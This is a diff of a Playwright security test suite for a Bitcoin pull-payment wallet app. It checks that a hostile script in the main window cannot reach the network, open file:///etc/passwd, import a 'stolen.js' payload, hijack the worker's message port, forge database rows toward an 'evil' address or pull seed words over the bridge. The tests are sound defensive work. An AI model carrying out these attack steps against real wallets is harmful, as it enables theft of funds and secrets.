@@ -1,20 +1,23 @@
 // Owns the attacks: a script in the main window, hostile callers, a look through every file for secrets, a busy port, a lost database.
+import { createSocket } from 'node:dgram';
 import { createServer } from 'node:net';
 import { readFile, readdir, rm, stat } from 'node:fs/promises';
 import { join } from 'node:path';
+import {
+  type BridgeAnswer,
+  appendWithStolenPort,
+  callEverything,
+  forgeRows,
+  tryEveryWayOut,
+  tryPermissions,
+  tryToReplaceBridge,
+  tryToRunText,
+} from './lib/page-attacks.ts';
+import { Stranger } from './lib/stranger.ts';
 import { expect, test } from './fixtures.ts';
 
 test.describe.configure({ mode: 'serial' });
 test.use({ oneWorld: true });
-
-interface Bridge {
-  readonly methods: Readonly<Record<string, (args: unknown) => Promise<{ ok: boolean; error?: { code: string } }>>>;
-}
-declare global {
-  interface Window {
-    readonly pullpay: Bridge;
-  }
-}
 
 let link = '';
 
@@ -29,49 +32,58 @@ test('a wallet with a pull payment and a claim', async ({ sender, recipient, cha
   await recipient.claim({ chain: 'bitcoin', destination: chain.newAddress('bitcoin'), amount: '40' });
 });
 
-test('the main window has no Node, no network, no eval, no other page', async ({ sender }) => {
-  const page = sender.page;
-  const found = await page.evaluate(() => ({
-    process: typeof (globalThis as { process?: unknown }).process,
-    require: typeof (globalThis as { require?: unknown }).require,
-  }));
-  expect(found).toEqual({ process: 'undefined', require: 'undefined' });
-  expect(
-    await page.evaluate(() =>
-      fetch('https://example.com').then(
-        () => 'reached',
-        () => 'refused',
-      ),
+test('the main window has no Node, opens and becomes no other page, and runs no text', async ({ sender }) => {
+  const { page, copy } = sender;
+  expect(await page.evaluate(() => ['process', 'require', 'module', 'Buffer', 'global'].filter((name) => name in globalThis))).toEqual([]);
+  expect(await page.evaluate(tryToRunText)).toEqual([]);
+  expect(await page.evaluate(tryPermissions)).toEqual([]);
+  const opened = copy.app.windows().length;
+  const results = await page.evaluate(() =>
+    ['https://example.com', 'app://secure/', 'app://pullpay/', 'about:blank', 'file:///etc/passwd', 'pullpay://claim?offer=x'].map(
+      (address) => {
+        const other = window.open(address);
+        return other === null ? 'refused' : address;
+      },
     ),
-  ).toBe('refused');
+  );
+  expect(new Set(results)).toEqual(new Set(['refused']));
+  expect(copy.app.windows().length).toBe(opened);
+});
+
+test('nothing leaves the main window by any way that browsers know', async ({ sender, world }) => {
+  const heard: string[] = [];
+  const tcp = createServer((socket) => {
+    socket.once('data', (bytes) => {
+      heard.push(`tcp ${bytes.subarray(0, 60).toString('latin1')}`);
+      socket.destroy();
+    });
+    socket.on('error', () => undefined);
+  }).listen(0, '127.0.0.1');
+  const udp = createSocket('udp4', () => heard.push('udp'));
+  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
+  const address = tcp.address();
+  const ports = { tcp: typeof address === 'object' && address !== null ? address.port : 0, udp: udp.address().port };
+  const before = await filesUnder(world.home);
+  const tried = await sender.page.evaluate(tryEveryWayOut, ports);
+  expect(tried.length).toBeGreaterThan(30);
+  // As text: the runner would turn an import() of a function into a require.
+  expect(await sender.page.evaluate(`import('http://127.0.0.1:${ports.tcp}/stolen.js').then(() => 'reached', () => 'refused')`)).toBe(
+    'refused',
+  );
+  expect(heard).toEqual([]);
+  expect(sender.page.url().split('#')[0]).toBe('app://pullpay/');
+  expect((await filesUnder(world.home)).filter((path) => !before.includes(path) && /stolen|\.part$|crdownload/.test(path))).toEqual([]);
+  tcp.close();
+  udp.close();
+  for (const target of ['https://example.com/', 'app://secure/', 'file:///etc/passwd'])
+    await sender.page.evaluate((href) => void setTimeout(() => Object.assign(location, { href }), 0), target);
+  await sender.page.waitForTimeout(300);
   expect(
-    await page.evaluate(() =>
-      fetch('http://127.0.0.1:1/').then(
-        () => 'reached',
-        () => 'refused',
-      ),
+    await sender.copy.app.evaluate(({ BrowserWindow }) =>
+      BrowserWindow.getAllWindows().map((window) => window.webContents.getURL().split('#')[0]),
     ),
-  ).toBe('refused');
-  const inline = await page.evaluate(async () => {
-    const script = document.createElement('script');
-    try {
-      script.textContent = 'window.injected = true';
-      document.body.append(script);
-    } catch {
-      return 'refused';
-    }
-    return 'injected' in window ? 'ran' : 'refused';
-  });
-  expect(inline).toBe('refused');
-  const opened = sender.copy.app.windows().length;
-  await page.evaluate(() => window.open('https://example.com'));
-  await page.evaluate(() => {
-    location.href = 'https://example.com/';
-  });
-  await page.waitForTimeout(300);
-  expect(page.url()).toBe('app://pullpay/');
+  ).toEqual(['app://pullpay/']);
   // A prevented navigation keeps the driver waiting; the next chapters start from a fresh copy.
-  expect(sender.copy.app.windows().length).toBe(opened);
   await sender.kill();
   await sender.start();
   await sender.unlock();
@@ -97,27 +109,167 @@ test('the page is served with the strict policy, and nothing outside the bundle 
   expect(answers.slice(1).map(([status]) => status)).toEqual([404, 404, 404, 404]);
 });
 
-test('a script in the main window finds no secret and no way to approve', async ({ sender }) => {
-  const secretNames = ['revealWords', 'newWords', 'unlock', 'confirmPlan', 'planView', 'withSeed'];
-  const seen = await sender.page.evaluate(() => ({
-    keys: Object.keys(window.pullpay.methods),
-    frozen: Object.isFrozen(window.pullpay),
-    secure: 'pullpaySecure' in window,
-  }));
-  expect(seen.keys.filter((key) => secretNames.includes(key))).toEqual([]);
-  expect(seen).toMatchObject({ secure: false });
-  const codes = await sender.page.evaluate(async () => {
-    const ask = async (name: string, args: unknown): Promise<string> => {
-      const answer = await window.pullpay.methods[name]?.(args);
-      return answer?.ok ? 'ok' : (answer?.error?.code ?? 'missing');
-    };
-    return Promise.all([
-      ask('planPayment', { walletId: '../x', payoutIds: ['a'] }),
-      ask('settings', { extra: 1 }),
-      ask('faucet', { walletId: 1 }),
-    ]);
+test('a script in the main window finds no secret and no way to approve, whatever it sends over the bridge', async ({ sender, chain }) => {
+  const { page, copy } = sender;
+  const names = await page.evaluate(() => Object.keys(window.pullpay.methods));
+  expect(names.filter((name) => /word|seed|key|confirm|sign|password|token|unlock$|planView/i.test(name))).toEqual([]);
+  expect(await page.evaluate(() => 'pullpaySecure' in window)).toBe(false);
+  expect(await page.evaluate(tryToReplaceBridge)).toEqual({ same: true });
+  const settings = await page.evaluate(() => window.pullpay.methods.settings?.({}));
+  const found = await page.evaluate(callEverything, []);
+  expect(found.calls).toBeGreaterThan(400);
+  const secrets = [
+    ...sender.paper.flat().map((word) => ` ${word} `),
+    ...sender.paper.map((words) => words.join(' ')),
+    sender.password,
+    'prv',
+  ];
+  expect(secrets.filter((secret) => found.answers.includes(secret))).toEqual([]);
+  // Things without properties count as the empty object that some methods ask for, and a host that is not there may be forgotten.
+  expect(found.taken.filter((call) => !call.endsWith('(empty)') && !call.startsWith('forgetHost('))).toEqual([]);
+  expect(await page.evaluate(() => window.pullpay.methods.settings?.({}))).toEqual(settings);
+  expect(await page.evaluate(() => window.pullpay.methods.hosts?.({}))).toMatchObject({ value: [] });
+  expect(copy.app.windows(), 'no secure window was opened by nonsense').toHaveLength(1);
+  await sender.unlockIfLocked();
+  const stranger = new Stranger(link);
+  const address = chain.newAddress('bitcoin');
+  const { id, claimToken } = await stranger.claim({ chain: 'bitcoin', destination: address, amount: '1' });
+  const walletId = await sender.walletId();
+  const plan = (args: object): Promise<BridgeAnswer | undefined> =>
+    page.evaluate((sent) => window.pullpay.methods.planPayment?.(sent), args);
+  expect(await plan({ walletId, payoutIds: [id] }), 'a claim that nobody approved').toMatchObject({
+    ok: false,
+    error: { code: 'payout-not-payable' },
   });
-  expect(codes).toEqual(['wallet-not-found', 'bad-arguments', 'bad-arguments']);
+  const forged = { walletId, payoutIds: [id], destination: chain.newAddress('bitcoin'), amount: '1' };
+  expect(await plan(forged), 'another destination').toMatchObject({ ok: false, error: { code: 'bad-arguments' } });
+  await stranger.send('DELETE', `/payouts/${id}`, { token: claimToken });
+});
+
+test('a script that takes the worker’s place can break no promise: main checks each by its own journal', async ({ sender, chain }) => {
+  const { page } = sender;
+  const stranger = new Stranger(link);
+  const mine = chain.newAddress('bitcoin');
+  const { id } = await stranger.claim({ chain: 'bitcoin', destination: mine, amount: '2' });
+  await sender.approve([mine]);
+  const walletId = await sender.walletId();
+  const evil = chain.newAddress('bitcoin');
+  // As if it had been there before the page's own script: the ports of the next load are its own.
+  await page.addInitScript(() => {
+    window.addEventListener(
+      'message',
+      (event) => {
+        if (event.data === 'pullpay-main-port') Object.assign(window, { stolen: event.ports[0] });
+      },
+      true,
+    );
+    window.addEventListener('message', (event) => event.stopImmediatePropagation(), true);
+  });
+  await page.reload();
+  await expect.poll(() => page.evaluate(() => 'stolen' in window)).toBe(true);
+  const edit = {
+    type: 'claim-edited',
+    payoutId: id,
+    revision: 2,
+    methodId: 'BTC-CHAIN',
+    destination: evil,
+    address: evil,
+    tag: null,
+    originalAmount: '2',
+    payoutCurrency: 'BTC',
+    note: null,
+  };
+  const approval = { payoutId: id, revision: 0, payoutAmount: '0.9', rate: '2', rateRule: null, rateSource: 'manual', rateLockedAt: 1 };
+  const codes = await page.evaluate(appendWithStolenPort, [
+    walletId,
+    [edit, { type: 'payouts-approved', approvals: [approval] }, { type: 'x' }],
+  ] as const);
+  expect(codes).not.toContain('ok');
+  await sender.kill();
+  await sender.start();
+  await sender.pay([mine]);
+  await sender.expectPaid(mine);
+  await chain.expectOnePayment('bitcoin', mine);
+  expect(await chain.paymentsTo('bitcoin', evil)).toEqual([]);
+});
+
+test('rows of the database that were changed right before paying change nothing: the promises are shown and paid', async ({
+  sender,
+  chain,
+}) => {
+  const stranger = new Stranger(link);
+  const mine = chain.newAddress('bitcoin');
+  const { id, claimToken } = await stranger.claim({ chain: 'bitcoin', destination: mine, amount: '3' });
+  await sender.approve([mine]);
+  const owed = satoshi((await stranger.payout(id, claimToken)).payoutAmount);
+  const evil = chain.newAddress('bitcoin');
+  expect(await sender.page.evaluate(forgeRows, evil)).toBeGreaterThan(1);
+  await sender.openPayouts('Paid');
+  await sender.openPayouts('To pay');
+  await expect(sender.rowOf(evil).first(), 'the screen believes the forged rows').toBeVisible();
+  await sender.page.getByLabel('Select all').check();
+  await sender.press('Pay…');
+  await sender.dialog.getByRole('button', { name: 'Check in the secure window' }).click();
+  await expect(sender.dialog.locator('.is-bad').first(), 'claims that nobody approved are refused').toBeVisible();
+  expect(sender.copy.app.windows()).toHaveLength(1);
+  await sender.dialog.getByRole('button', { name: 'Cancel' }).click();
+  await sender.page.getByLabel('Select all').uncheck();
+  await sender.page.locator(`[data-payout="${id}"]`).getByRole('checkbox').check();
+  await sender.press('Pay…');
+  const secure = await sender.secureWindow(() => sender.dialog.getByRole('button', { name: 'Check in the secure window' }).click());
+  await secure.expectApproval(sender.password);
+  expect(await secure.destinations()).toEqual([mine]);
+  await secure.signAndPay();
+  await chain.moveUntil(async () => expect(await stranger.payout(id)).toMatchObject({ state: 'Completed' }));
+  expect((await chain.expectOnePayment('bitcoin', mine)).amount).toBe(owed);
+  expect(await chain.paymentsTo('bitcoin', evil)).toEqual([]);
+  await sender.restart();
+  await sender.unlock();
+});
+
+test('the secure window shares nothing with the main window, which can neither reach nor press it', async ({ sender, chain }) => {
+  const stranger = new Stranger(link);
+  const mine = chain.newAddress('bitcoin');
+  await stranger.claim({ chain: 'bitcoin', destination: mine, amount: '4' });
+  await sender.approve([mine]);
+  await sender.page.evaluate(() => {
+    localStorage.setItem('note', 'from the main window');
+    document.cookie = 'note=main';
+    const channel = new BroadcastChannel('note');
+    Object.assign(window, { channel, heard: [] as unknown[] });
+    channel.addEventListener('message', ({ data }) => (window as unknown as { heard: unknown[] }).heard.push(data));
+  });
+  const secure = await sender.startPaying([mine]);
+  await secure.page.evaluate(() => {
+    const channel = new BroadcastChannel('note');
+    Object.assign(window, { channel, heard: [] as unknown[] });
+    channel.addEventListener('message', ({ data }) => (window as unknown as { heard: unknown[] }).heard.push(data));
+    channel.postMessage('from the secure window');
+  });
+  await sender.page.evaluate(async () => {
+    const { channel } = window as unknown as { channel: BroadcastChannel };
+    channel.postMessage('pay');
+    window.postMessage('pay', '*');
+    for (const name of Object.keys(window.pullpay.methods).filter((method) => method !== 'lockVault'))
+      await window.pullpay.methods[name]?.({ kind: 'approve-plan', confirm: true });
+    for (const key of ['Enter', ' ']) document.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, ctrlKey: true }));
+  });
+  await secure.page.waitForTimeout(1200);
+  const inside = await secure.page.evaluate(async () => ({
+    heard: (window as unknown as { heard: unknown[] }).heard,
+    stored: localStorage.length,
+    cookie: document.cookie,
+    databases: (await indexedDB.databases()).length,
+    opener: window.opener === null,
+    parent: window.parent === window,
+    bridge: 'pullpay' in window,
+  }));
+  expect(inside).toEqual({ heard: [], stored: 0, cookie: '', databases: 0, opener: true, parent: true, bridge: false });
+  expect(await sender.page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).toEqual([]);
+  await expect(secure.title, 'it still waits for a hand').toHaveText('Approve this payment');
+  await secure.doNotPay();
+  await sender.page.keyboard.press('Escape');
+  expect(await chain.paymentsTo('bitcoin', mine)).toEqual([]);
 });
 
 test('locked, claims still arrive and nothing can be spent', async ({ sender, recipient, chain }) => {
@@ -138,7 +290,7 @@ test('a database that was deleted comes back from the journal with the same payo
   await sender.openPayouts('To approve');
   await expect(sender.rows).toHaveCount(2);
   await recipient.openLink(link);
-  await expect(recipient.page.getByRole('complementary', { name: 'Terms' })).toContainText('50');
+  await expect(recipient.page.getByRole('complementary', { name: 'Terms' })).toContainText('41');
 });
 
 test('a busy port switches the API off with a notice, never to another port', async ({ sender, world }) => {
@@ -171,6 +323,12 @@ test('no file and no output of all this holds words, keys or password in clear',
   expect(words.length).toBeGreaterThan(0);
   expect(hits).toEqual([]);
 });
+
+/** BTC as decimal text, in satoshi. */
+function satoshi(amount: unknown): bigint {
+  const [whole = '0', fraction = ''] = String(amount).split('.');
+  return BigInt(whole + fraction.padEnd(8, '0'));
+}
 
 async function filesUnder(folder: string): Promise<string[]> {
   const found: string[] = [];
